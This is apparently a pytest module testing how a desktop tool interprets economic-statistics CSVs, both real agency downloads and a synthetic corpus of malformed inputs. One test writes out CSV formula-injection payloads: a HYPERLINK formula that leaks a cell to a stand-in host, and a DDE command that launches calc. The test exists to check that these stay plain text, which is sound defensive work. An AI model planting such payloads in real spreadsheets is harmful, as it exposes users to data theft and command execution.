"""End to end on real downloads (resources/sources) and the synthetic bad-input corpus.

Grids are built with the csv module (helpers.file_grid), not with the readers, so these tests
check interpretation alone. Expected values are copied from the files, not from our output.
"""

from __future__ import annotations

import pytest

from desktop.core.storage import load_bundled
from desktop.importers.interpret import detect, interpret, interpret_grid

from .helpers import codes, file_grid, value_of


@pytest.fixture(scope="module")
def bundled_lookup():
    return load_bundled().lookup


# --- real files ------------------------------------------------------------------------------


def test_nbs_gbk_province_gdp(external, bundled_lookup):
    table = file_grid(external / "cn_nbs_province_gdp_2006_2024_gbk.csv", "gb18030")
    plan = detect(table)
    assert (plan.layout, plan.indicator, plan.unit) == ("wide_years", "地区生产总值", "亿元")
    assert plan.header_rows == (3,)
    assert list(plan.year_columns.values())[:2] == [2024, 2023]  # newest first, with 年
    frame, report = interpret(table, plan, bundled_lookup)
    # 辽宁省,...: 2016 = 20,832.0 亿元
    assert value_of(frame, "cn-prov-210000", "地区生产总值", 2016) == 2083200000000.0
    assert value_of(frame, "cn-prov-210000", "地区生产总值", 2015) == 2065780000000.0
    assert set(frame["unit"]) == {"CNY"} and set(frame["source_unit"]) == {"亿元"}
    assert report.rows_read == 31 and report.rows_imported == 31 * 19
    assert report.years == list(range(2006, 2025))
    footer = next(w for w in report.warnings if w.code == "footer_rows_dropped")
    assert footer.values["rows"] == [36, 37]
    assert report.errors == []


def test_world_bank_growth(external, bundled_lookup):
    table = file_grid(external / "API_NY.GDP.MKTP.KD.ZG_DS2_en_csv_v2_2788350.csv")
    frame, report = interpret_grid(table, lookup=bundled_lookup)
    assert report.layout == "wide_years"
    assert value_of(frame, "country-CHN", "GDP growth (annual %)", 2016) == 6.84876220495761
    hit = frame[(frame["city"] == "country-CHN") & (frame["year"] == 2016)].iloc[0]
    assert (hit["unit"], hit["source_row"], hit["source_column"]) == ("percent", 46, "BI")
    assert report.header_rows == [5]
    assert "Arab World" in report.cities_new  # aggregates are kept, as the file has them
    assert report.errors == []


def test_oecd_sdmx_unit_mult(external, bundled_lookup):
    table = file_grid(external / "oecd_sdmx_csv_DF_REFSERIES_GLOBAL_gdp_usd_2013_on.csv")
    frame, report = interpret_grid(table, lookup=bundled_lookup)
    assert report.layout == "sdmx"
    # line 275: ...,CHN,B1GQ_V,USD,A,2016,11233136.52,A,6,0,
    assert value_of(frame, "country-CHN", "B1GQ_V [USD]", 2016) == 11233136520000.0
    assert report.rows_imported == 2688
    assert "USD (UNIT_MULT 6) → USD (× 1,000,000)" in report.units_converted
    assert "conflicting_duplicate" not in codes(report.errors)


def test_eurostat_tsv_gz(external):
    table = file_grid(external / "eurostat_nama_10r_3gdp.tsv.gz", delimiter="\t")
    frame, report = interpret_grid(table)
    assert report.layout == "eurostat"
    # line 3902: MIO_EUR,DE3 <tab> 163828.13 e <tab> 156034.81 e ...  (2021, 2020)
    assert value_of(frame, "DE3", "eurostat_nama_10r_3gdp [MIO_EUR]", 2020) == 156034810000.0
    # line 2: EUR_HAB,AL <tab> : <tab> 4700 p
    assert value_of(frame, "AL", "eurostat_nama_10r_3gdp [EUR_HAB]", 2020) == 4700.0
    flags = next(w for w in report.warnings if w.code == "value_flags")
    assert flags.values["flags"]["p"] > 0 and flags.values["flags"]["e"] > 0
    assert (flags.location.row, flags.location.column) == (2, "C")
    assert next(w for w in report.warnings if w.code == "missing_values").values["count"] > 0


def test_brookings_long(external, bundled_lookup):
    table = file_grid(external / "us_brookings_metro_monitor_2021_growth_values_2009_2019.csv")
    frame, report = interpret_grid(table, lookup=bundled_lookup)
    assert report.layout == "long"
    # line 6112: 2016,19820,"Detroit-Warren-Dearborn, MI ...",Real GDP,2.55E+11,1,Very Large
    assert value_of(frame, "us-19820", "Real GDP", 2016) == 255000000000.0
    assert value_of(frame, "us-19820", "Jobs", 2016) == 1918976.4
    assert report.indicators == ["Jobs", "Real GDP", "Employment at firms 0-5 years old"]
    # the file repeats some metros with a trailing space and other values: listed, not hidden
    assert "conflicting_duplicate" in codes(report.errors)


# --- the synthetic corpus ----------------------------------------------------------------------

TRUTH_FILES = ["clean_long_utf8.csv", "wide_years_as_columns.csv", "thousands_quoted.csv",
               "formula_injection.csv"]


def corpus_grid(corpus, name, **kwargs):
    return file_grid(corpus / name, **kwargs)


@pytest.mark.parametrize("name", ["clean_long_utf8.csv", "wide_years_as_columns.csv",
                                  "thousands_quoted.csv"])
def test_corpus_baseline_values(corpus, manifest, lookup, name):
    assert "75 rows" in manifest[name]["detail"]
    frame, report = interpret_grid(corpus_grid(corpus, name), lookup=lookup)
    assert len(frame) == 75 and report.errors == []
    assert value_of(frame, "cn-110100", "地区生产总值", 2016) == 100000000000.0  # 1000.0 亿元
    assert value_of(frame, "cn-510100", "一般公共预算收入", 2020) == 680250000000.0  # 6802.5 亿元


def test_corpus_semicolon_decimal_comma(corpus, lookup):
    table = corpus_grid(corpus, "semicolon_decimal_comma.csv", delimiter=";", decimal=",")
    frame, report = interpret_grid(table, lookup=lookup)
    assert len(frame) == 75 and report.errors == []
    assert value_of(frame, "cn-110100", "地区生产总值", 2016) == 100000000000.0
    assert value_of(frame, "cn-510100", "一般公共预算收入", 2020) == 680250000000.0


def test_corpus_missing_markers(corpus, manifest, lookup):
    assert manifest["missing_markers.csv"]["detail"].startswith("12 of 75")
    frame, report = interpret_grid(corpus_grid(corpus, "missing_markers.csv"), lookup=lookup)
    assert len(frame) == 63 and not (frame["value"] == 0).any()
    missing = next(w for w in report.warnings if w.code == "missing_values")
    assert missing.values["count"] == 12
    assert report.errors == []


def test_corpus_duplicates(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "duplicates_conflicting.csv"),
                                   lookup=lookup)
    assert len(frame) == 75
    conflict = next(e for e in report.errors if e.code == "conflicting_duplicate")
    assert conflict.values["rows"] == [2, 77]
    assert value_of(frame, "cn-110100", "地区生产总值", 2016) == 100000000000.0  # first kept
    collapsed = next(w for w in report.warnings if w.code == "duplicate_collapsed")
    assert collapsed.values["rows"] == [24, 78]


def test_corpus_nonnumeric_values(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "nonnumeric_values.csv"), lookup=lookup)
    flagged = {(e.location.row, e.values["text"]) for e in report.errors
               if e.code == "not_a_number"}
    assert flagged == {(2, "约1200"), (3, "1200*"), (4, "<0.1"), (5, "1.2万"), (8, "1200(初步)"),
                       (9, "TRUE"), (10, "3.5%"), (13, "0x1A")}
    normalised = {w.location.row for w in report.warnings if w.code == "number_normalised"}
    assert normalised == {6, 7, 12}  # １２３４．５, 12 345, １２３４
    assert value_of(frame, "cn-110100", "常住人口", 2020) == 10000000.0  # 1e3 万人
    assert len(frame) == 75 - 8


def test_corpus_years_with_suffix(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "years_with_suffix.csv"), lookup=lookup)
    assert len(frame) == 75 and sorted(frame["year"].unique()) == [2016, 2017, 2018, 2019, 2020]
    years = next(w for w in report.warnings if w.code == "year_normalised").values["years"]
    assert years == {"2016年": 2016, "2017 年": 2017, "二〇一八年": 2018, "2020年度": 2020}


def test_corpus_worldbank_metadata_rows(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "worldbank_metadata_rows.csv"),
                                   lookup=lookup)
    assert len(frame) == 28  # 6 series x 5 years, World 2020 missing twice
    assert set(frame["city"]) == {"country-CHN", "country-NAM", "World"}
    assert value_of(frame, "country-NAM", "Population, total", 2017) == 1011.0
    assert report.header_rows == [5]


def test_corpus_nbs_style_gbk(corpus, lookup):
    table = corpus_grid(corpus, "nbs_style_gbk.csv", encoding="gbk")
    frame, report = interpret_grid(table, lookup=lookup)
    assert len(frame) == 15
    assert set(frame["city"]) == {"cn-440100"}
    assert value_of(frame, "cn-440100", "地区生产总值", 2016) == 346900000000.0  # 3469.0 亿元
    assert "footer_rows_dropped" in codes(report.warnings)


def test_corpus_huge_inf_nan(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "huge_inf_nan.csv"), lookup=lookup)
    bad = {e.location.row: e.code for e in report.errors}
    assert bad == {2: "overflow", 3: "overflow", 4: "non_finite", 5: "non_finite",
                   6: "non_finite", 7: "non_finite", 8: "underflow", 12: "overflow"}
    precision = {w.location.row for w in report.warnings if w.code == "precision_loss"}
    assert precision == {9, 10}
    assert value_of(frame, "cn-110100", "常住人口", 2020) == 0.0  # '-0'
    assert len(frame) == 75 - 8


def test_corpus_formula_injection_stays_text(corpus, lookup):
    frame, _ = interpret_grid(corpus_grid(corpus, "formula_injection.csv"), lookup=lookup)
    assert len(frame) == 75
    assert '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")' in set(frame["city"])
    assert "+cmd|' /C calc'!A0" in set(frame["indicator"])
    assert value_of(frame, "cn-110100", "常住人口", 2019) == -125000.0  # -12.5 万人


def test_corpus_mixed_units(corpus, lookup):
    frame, report = interpret_grid(corpus_grid(corpus, "mixed_units.csv"), lookup=lookup)
    assert len(frame) == 75
    assert value_of(frame, "cn-310100", "地区生产总值", 2016) == 223450000000.0  # 2234.5 亿元
    assert value_of(frame, "cn-440100", "常住人口", 2016) == 37902500.0  # 3790.25 万人
    mixed = {w.values["indicator"] for w in report.warnings if w.code == "mixed_units"}
    assert mixed == {"地区生产总值", "常住人口"}
    assert "万元 → CNY (× 10,000)" in report.units_converted


def test_corpus_header_only(corpus):
    frame, report = interpret_grid(corpus_grid(corpus, "header_only.csv"))
    assert frame.empty and codes(report.warnings) == ["no_data_rows"]


def test_bea_msa_income_table_one_indicator_per_line(external):
    """BEA CAINC1: GeoName, LineCode, Description and Unit columns, a row per (area, line):
    each Description its own indicator, 'Thousands of dollars' scaled exactly."""
    table = file_grid(external / "us_bea_cainc1_msa_personal_income_population_1969_2022.csv")
    plan = detect(table)
    assert plan.layout == "wide_years"
    assert plan.roles["GeoName"] == "city" and plan.roles["Description"] == "indicator"
    assert plan.roles["Unit"] == "unit"
    frame, report = interpret(table, plan)
    detroit = "Detroit-Warren-Dearborn, MI (Metropolitan Statistical Area)"
    income = "Personal income (thousands of dollars)"
    assert report.indicators[:2] == [income, "Population 1/"]
    assert len(report.indicators) == 3
    assert value_of(frame, detroit, income, 2019) == 232_250_927_000.0  # 232250927 thousand
    assert value_of(frame, detroit, "Population 1/", 2019) == 4_394_145.0
    assert "series_found" in codes(report.warnings)
    assert not report.errors


def test_bea_msa_gdp_table_keeps_real_and_current_dollars_apart(external):
    table = file_grid(external / "us_bea_cagdp1_msa_gdp_2001_2022.csv")
    frame, report = interpret(table, detect(table))
    pittsburgh = "Pittsburgh, PA (Metropolitan Statistical Area)"
    current = "Current-dollar GDP (thousands of current dollars)"
    assert value_of(frame, pittsburgh, current, 2001) == 82_554_514_000.0
    real = next(i for i in report.indicators if i.startswith("Real GDP"))
    # chained dollars are not a unit we convert: kept as written, and said
    assert value_of(frame, pittsburgh, real, 2001) == 112_996_500.0
    assert "unknown_unit" in codes(report.warnings)
